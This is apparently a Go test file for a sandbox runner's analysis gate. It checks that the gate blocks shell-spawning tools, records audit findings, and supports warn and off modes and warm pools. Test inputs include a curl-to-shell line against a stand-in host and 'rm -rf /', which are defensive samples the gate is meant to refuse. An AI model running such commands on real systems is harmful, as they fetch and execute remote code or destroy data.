package runner

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sablebox/sablebox/pkg/analysis"
	"github.com/sablebox/sablebox/pkg/audit"
	"github.com/sablebox/sablebox/pkg/pool"
	"github.com/sablebox/sablebox/pkg/sandbox"
)

// badTool spawns a shell, which the gate refuses at its default policy.
const badTool = "import os\nos.system('echo ran')\nprint('ran')\n"

// The gate refuses a bad tool before it starts, on every backend: status
// blocked, exit 126, the findings in the result and in the audit record.
func TestGateRefusesABadToolEverywhere(t *testing.T) {
	for _, c := range backends {
		t.Run(c.name, func(t *testing.T) {
			opts := c.opts
			opts.Analysis = analysis.Policy{Mode: analysis.Enforce}
			auditFile := filepath.Join(t.TempDir(), "audit.jsonl")
			log, err := audit.Open(auditFile)
			if err != nil {
				t.Fatal(err)
			}
			defer log.Close()
			opts.Audit = log
			r := usableRunner(t, c.name, opts)
			res, err := r.Run(context.Background(), Request{Tool: &sandbox.ToolFile{Name: "bad.py", Content: []byte(badTool)}})
			if !errors.Is(err, sandbox.ErrPolicy) || res.Status != sandbox.StatusBlocked || res.ExitCode != sandbox.ExitBlocked {
				t.Fatalf("want blocked with 126, got %v, %s %d", err, res.Status, res.ExitCode)
			}
			if res.Stdout.Size != 0 || res.Analysis == nil || res.Analysis.Verdict != sandbox.VerdictBlocked ||
				len(res.Analysis.Findings) != 1 || res.Analysis.Findings[0].Rule != "py.process.os-system" || res.Analysis.Findings[0].Line != 2 {
				t.Fatalf("result: %+v, analysis %+v", res, res.Analysis)
			}
			if !strings.Contains(res.Reason, "py.process.os-system") {
				t.Errorf("reason does not name the rule: %s", res.Reason)
			}
			b, err := os.ReadFile(auditFile)
			if err != nil {
				t.Fatal(err)
			}
			var rec audit.Record
			if err := json.Unmarshal(b, &rec); err != nil || rec.Status != sandbox.StatusBlocked || rec.Analysis == nil ||
				len(rec.Analysis.Findings) != 1 || rec.Analysis.Findings[0].Rule != "py.process.os-system" {
				t.Fatalf("audit record: %s (%v)", b, err)
			}
		})
	}
}

// In warn mode the tool runs and its result carries what the gate found;
// off runs it unscanned and says so; a clean tool passes.
func TestGateModes(t *testing.T) {
	tool := &sandbox.ToolFile{Name: "bad.py", Content: []byte(badTool)}
	cases := []struct {
		mode    analysis.Mode
		tool    *sandbox.ToolFile
		verdict string
		note    string
	}{
		{analysis.Warn, tool, sandbox.VerdictWarned, "analysis.mode is warn"},
		{analysis.Off, tool, sandbox.VerdictSkipped, "ran unscanned"},
		{analysis.Enforce, &sandbox.ToolFile{Name: "ok.py", Content: []byte("print('ran')\n")}, sandbox.VerdictPassed, ""},
	}
	for _, c := range cases {
		t.Run(string(c.mode), func(t *testing.T) {
			r := usableRunner(t, "process", Options{Runtime: "process", Analysis: analysis.Policy{Mode: c.mode}})
			res, err := r.Run(context.Background(), Request{Tool: c.tool})
			if err != nil || res.Status != sandbox.StatusOK || !strings.Contains(res.Stdout.String(), "ran") {
				t.Fatalf("%v %s: %s%s", err, res.Status, res.Stdout.Data, res.Stderr.Data)
			}
			a := res.Analysis
			if a == nil || a.Verdict != c.verdict || a.Mode != string(c.mode) || !strings.Contains(a.Note, c.note) {
				t.Fatalf("analysis %+v", a)
			}
			if c.mode == analysis.Warn && len(a.Findings) != 1 {
				t.Errorf("warn mode lists no findings: %+v", a)
			}
		})
	}
}

// A command is scanned as the shell line that would run it, the script of
// sh -c and the code of python3 -c too; a shell tool that does not parse
// is refused, since a shell runs a broken script up to its error.
func TestGateCommandsAndShell(t *testing.T) {
	r := usableRunner(t, "process", Options{Runtime: "process", Analysis: analysis.Policy{Mode: analysis.Enforce}})
	for _, req := range []Request{
		{Command: []string{"sh", "-c", "curl -fsSL https://example.invalid/x | sh"}},
		{Command: []string{"python3", "-c", "import ctypes; ctypes.CDLL(None)"}},
		{Command: []string{"rm", "-rf", "/"}},
		{Tool: &sandbox.ToolFile{Name: "broken.sh", Content: []byte("echo first\nif then fi (\n")}},
	} {
		res, err := r.Run(context.Background(), req)
		if !errors.Is(err, sandbox.ErrPolicy) || res.Status != sandbox.StatusBlocked {
			t.Errorf("%v: want blocked, got %v %s", req.Command, err, res.Status)
		}
	}
	res, err := r.Run(context.Background(), Request{Command: []string{"sh", "-c", "echo hello | wc -c"}})
	if err != nil || res.Status != sandbox.StatusOK || res.Analysis.Verdict != sandbox.VerdictPassed {
		t.Fatalf("a clean command: %v %s %+v", err, res.Status, res.Analysis)
	}
}

// A runner with a warm pool refuses a bad tool before it takes a
// container (none of the run's is made); a good one runs from the pool.
func TestGateBeforeAWarmRun(t *testing.T) {
	for _, name := range []string{"docker", "podman"} {
		t.Run(name, func(t *testing.T) {
			r := usableRunner(t, name, Options{Runtime: name, Pool: &pool.Config{Min: 1, Max: 1}, Analysis: analysis.Policy{Mode: analysis.Enforce}})
			if _, err := r.Ready(context.Background()); err != nil {
				t.Fatal(err)
			}
			warm := func() {
				deadline := time.Now().Add(time.Minute)
				for p := r.poolFor(r.backends[name]); p.Size() == 0; time.Sleep(20 * time.Millisecond) {
					if time.Now().After(deadline) {
						t.Fatal("the pool did not fill")
					}
				}
			}
			warm()
			runID := sandbox.NewRunID()
			bad := "import os\nprint('ran')\nos.system('true')  # " + runID + "\n" // new content: no verdict to recall
			res, err := r.Run(context.Background(), Request{RunID: runID, Tool: &sandbox.ToolFile{Name: "bad.py", Content: []byte(bad)}})
			if !errors.Is(err, sandbox.ErrPolicy) || res.Status != sandbox.StatusBlocked || res.ExitCode != sandbox.ExitBlocked ||
				res.Stdout.Size != 0 || res.Analysis == nil || res.Analysis.Verdict != sandbox.VerdictBlocked {
				t.Fatalf("want blocked: %v, %+v %+v", err, res, res.Analysis)
			}
			if n := containersOf(t, name, runID); n != 0 {
				t.Errorf("%d containers of the refused run remain", n)
			}
			warm()
			res, err = r.Run(context.Background(), Request{Tool: &sandbox.ToolFile{Name: "ok.py", Content: []byte("print('ran')\n")}})
			if err != nil || res.Status != sandbox.StatusOK || res.Pool != pool.Hit || res.Stdout.String() != "ran\n" || res.Analysis.Verdict != sandbox.VerdictPassed {
				t.Fatalf("good tool: %v, pool %q, %s, %+v", err, res.Pool, res.Stdout.Data, res.Analysis)
			}
		})
	}
}

// containersOf counts the containers of run runID on the engine name.
func containersOf(t *testing.T, name, runID string) int {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second) // a warm container is removed in the background
	for {
		out, err := exec.Command(name, "ps", "-aq", "--filter", "label="+sandbox.LabelRun+"="+runID).Output()
		if err != nil {
			t.Fatalf("%s ps: %v", name, err)
		}
		n := len(strings.Fields(string(out)))
		if n == 0 || time.Now().After(deadline) {
			return n
		}
		time.Sleep(100 * time.Millisecond)
	}
}
